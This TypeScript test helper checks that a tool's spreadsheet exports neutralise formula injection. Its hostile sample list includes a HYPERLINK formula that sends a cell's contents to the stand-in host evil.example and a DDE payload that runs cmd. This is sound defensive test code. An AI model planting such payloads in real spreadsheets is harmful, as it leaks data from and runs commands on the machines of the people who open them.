// Reading an exported workbook the two ways it matters for formula injection: as a spreadsheet
// program sees it (exceljs: value, type, number format) and as it is stored (the sheet XML: is a
// cell a formula, or a string cell?).
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { expect } from 'vitest';
import { isFormulaLike } from '../../src/server/platform/spreadsheet-cells.ts';

/**
 * Hostile text to plant in what GridGuard exports: formulas, a DDE payload, and text starting with
 * - @ tab or CR. Each is a valid name or address as far as GridGuard is concerned.
 */
export const HOSTILE_TEXTS = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1)',
  minus: '-2+3',
  tab: '\t=1',
  cr: '\r=1',
} as const;

export interface XlsxFile {
  book: ExcelJS.Workbook;
  /** Each sheet's XML by the sheet's name. */
  xml: Map<string, string>;
}

export async function openXlsx(file: Buffer): Promise<XlsxFile> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file as unknown as ArrayBuffer);
  const zip = await JSZip.loadAsync(file);
  const read = async (path: string) => {
    const entry = zip.file(path);
    if (!entry) throw new Error(`${path} missing from the workbook`);
    return entry.async('string');
  };
  const workbookXml = await read('xl/workbook.xml');
  const rels = await read('xl/_rels/workbook.xml.rels');
  const xml = new Map<string, string>();
  for (const [, name, relId] of workbookXml.matchAll(/<sheet [^>]*?name="([^"]+)"[^>]*?r:id="([^"]+)"/g)) {
    const target = new RegExp(`<Relationship [^>]*?Id="${relId}"[^>]*?Target="([^"]+)"`).exec(rels)?.[1] ?? '';
    xml.set(name ?? '', await read(`xl/${target.replace(/^\/?xl\//, '')}`));
  }
  return { book, xml };
}

/** The text of a string cell (plain or rich), or null for any other cell. */
function textOf(cell: ExcelJS.Cell): string | null {
  if (cell.type === ExcelJS.ValueType.String) return String(cell.value);
  if (cell.type === ExcelJS.ValueType.RichText) return (cell.value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join('');
  return null;
}

/** XML readers (Excel's included) read a carriage return in text as a line feed. */
const asStored = (text: string) => text.replace(/\r\n?/g, '\n');

/**
 * No formula anywhere in the workbook, and every cell whose text could be taken for one — and
 * every cell starting with one of `planted`, which must each begin one — is a string cell in the
 * XML (shared or inline, never a formula result `t="str"`), formatted as Text, holding the text
 * unchanged. Answers the texts of the cells checked.
 */
export function expectFormulaSafe(file: XlsxFile, planted: readonly string[]): string[] {
  for (const [name, xml] of file.xml) expect(xml, `sheet ${name}`).not.toMatch(/<f[\s>]/);
  const checked: string[] = [];
  file.book.eachSheet((sheet) => {
    const xml = file.xml.get(sheet.name) ?? '';
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const text = textOf(cell);
        if (text === null || !(isFormulaLike(text) || planted.some((p) => text.startsWith(asStored(p))))) return;
        const where = `${sheet.name}!${cell.address}`;
        const element = new RegExp(`<c r="${cell.address}"[^>]*>`).exec(xml)?.[0] ?? '';
        expect(element, where).toMatch(/ t="(s|inlineStr)"/);
        expect(cell.numFmt, where).toBe('@');
        checked.push(text);
      }),
    );
  });
  for (const text of planted) expect(checked.some((c) => c.startsWith(asStored(text))), `a cell starting with ${JSON.stringify(text)}`).toBe(true);
  return checked;
}

/** The first sheet's rows as values (exceljs reads: numbers, dates, text), and the sheet's name. */
export async function firstSheetRows(file: Buffer): Promise<{ name: string; rows: unknown[][] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  if (!ws) throw new Error('no sheet');
  const rows: unknown[][] = [];
  ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return { name: ws.name, rows };
}
